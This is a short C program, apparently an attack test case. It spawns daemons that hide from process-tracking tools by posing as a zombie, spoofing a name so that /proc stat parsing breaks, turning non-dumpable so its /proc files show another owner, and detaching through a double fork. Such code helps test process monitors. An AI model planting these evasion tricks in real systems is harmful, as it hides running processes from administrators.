/* Daemons that are not easily seen to live, or to belong to who started them. */
#include "attack.h"
#include <pthread.h>
#include <sys/prctl.h>

static void *stay(void *nothing) {
    for (;;) pause();
}

int main(void) {
    pthread_t thread;
    if (fork() == 0) { /* its first thread has ended: a zombie, says /proc */
        setsid();
        pthread_create(&thread, NULL, stay, NULL);
        syscall(SYS_exit, 0);
    }
    if (fork() == 0) { /* its name reads like its state */
        setsid();
        prctl(PR_SET_NAME, "a) Z 1 1 1 1 1");
        stay(NULL);
    }
    if (fork() == 0) { /* its files in /proc belong to somebody else */
        setsid();
        prctl(PR_SET_DUMPABLE, 0);
        stay(NULL);
    }
    if (fork() == 0) { /* a grandchild in a session of its own */
        setsid();
        if (fork() == 0 && setsid() > 0) stay(NULL);
        _exit(0);
    }
    stay(NULL);
}
